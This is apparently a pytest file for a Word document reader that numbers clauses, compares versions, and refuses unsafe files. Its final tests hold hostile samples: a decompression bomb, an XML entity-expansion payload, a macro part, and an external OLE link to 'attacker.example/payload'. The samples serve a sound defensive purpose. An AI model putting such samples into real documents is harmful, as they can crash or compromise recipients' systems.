"""Another organisation’s Word document gives its clauses by the numbers Word draws, or says why it cannot be read."""

import pytest

from app.documents.other_texts import clauses_in, compare_texts
from app.office.document import words
from app.office.document_child import answered
from app.office.words import UnreadableDocument, words_of_document
from tests.documents.word_files import numbered, part, tracked, with_notes, with_part

OLD = numbered(
    (None, "Title", "Out-of-hospital standards"),
    (0, "Heading 1", "Response"),
    (1, "Normal", "A crisis team answers within two hours."),
    (2, "Normal", "by telephone"),
    (1, "Normal", "It tells the GP."),
    (0, "Heading 1", "Records"),
    (None, "Normal", "Records are shared with the patient’s consent."),
)
NEW = numbered(
    (None, "Title", "Out-of-hospital standards"),
    (0, "Heading 1", "Response"),
    (1, "Normal", "A crisis team answers within four hours."),
    (2, "Normal", "by telephone"),
    (1, "Normal", "It tells the GP."),
    (0, "Heading 1", "Funding"),
    (None, "Normal", "Each CCG pays for its own patients."),
    (0, "Heading 1", "Records"),
    (None, "Normal", "Records are shared with the patient’s consent."),
)


def test_headings_and_paragraphs_have_the_numbers_that_word_draws() -> None:
    assert [(one.number, one.heading or one.text) for one in clauses_in(words(OLD))] == [
        ("", "Out-of-hospital standards"),
        ("1", "Response"),
        ("1.1", "A crisis team answers within two hours.\n(a) by telephone"),
        ("1.2", "It tells the GP."),
        ("2", "Records"),
    ]


def test_two_versions_are_compared_clause_by_clause_in_processes_of_their_own() -> None:
    rows = compare_texts(words_of_document(OLD), words_of_document(NEW))
    told = [(row.kind, row.new.number if row.new else "", row.moved) for row in rows]
    assert ("changed", "1.1", False) in told
    assert ("added", "2", False) in told
    assert [row.kind for row in rows].count("changed") <= 2  # the clause, and one that only has another number


def test_tracked_changes_are_read_as_accepted_and_tables_row_by_row() -> None:
    assert words(tracked()) == "Response within four hours.\n\nMeasure | Target"


def test_a_note_stands_where_the_text_leads_to_it_so_that_what_changes_in_it_is_seen() -> None:
    old, new = words(with_notes("Except on bank holidays.")), words(with_notes("Except at weekends."))
    assert old == "Within two hours (note: Except on bank holidays.)."
    [row] = compare_texts(old, new)
    assert row.kind == "changed"


def test_another_note_before_it_changes_nothing_of_a_note() -> None:
    assert words(with_notes("Except at weekends.", begun="By telephone")).splitlines() == [
        "By telephone (note: Of the first.).",
        "",
        "Within two hours (note: Except at weekends.).",
    ]


BOMB = b"<w:document>" + b"<w:p/>" * 6_000_000 + b"</w:document>"
ENTITIES = b'<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]><w:document>&b;</w:document>'
LINKED = b"""<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9"
Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" TargetMode="External"
Target="http://attacker.example/payload"/></Relationships>"""
HOSTILE = {
    "a bomb": ("word/document.xml", BOMB, "that unpack to"),
    "entities": ("word/document.xml", ENTITIES, "declares XML entities or a document type"),
    "macros": ("word/vbaProject.bin", b"macro", "has macros (“word/vbaProject.bin”); expected none."),
    "an object elsewhere": ("word/_rels/footer9.xml.rels", LINKED, "leads outside itself (“oleObject”:"),
    "another page in it": ("word/afchunk.mht", b"From: x", "has other files joined into it"),
    "a broken part": ("word/document.xml", b"<w:document", "is no Word document that can be read"),
}


@pytest.mark.parametrize(("name", "content", "sentence"), HOSTILE.values(), ids=HOSTILE)
def test_what_nobody_should_send_is_refused_in_a_sentence(name: str, content: bytes, sentence: str) -> None:
    assert sentence in answered(with_part(OLD, name, content))["wrong"]


def test_a_file_for_macros_an_old_one_and_another_kind_are_named() -> None:
    types = part(OLD, "[Content_Types].xml").replace(
        b"wordprocessingml.document.main+xml", b"wordprocessingml.document.macroEnabled.main+xml"
    )
    for data, sentence in (
        (with_part(OLD, "[Content_Types].xml", types), "is a document for macros (.docm); expected .docx."),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "is an old document (.doc), or locked"),
        (b"words", "is no Word document, whatever its name says"),
    ):
        assert sentence in answered(data)["wrong"]
    with pytest.raises(UnreadableDocument, match="is no Word document that can be read"):
        words_of_document(with_part(OLD, "word/document.xml", b"<w:document"))
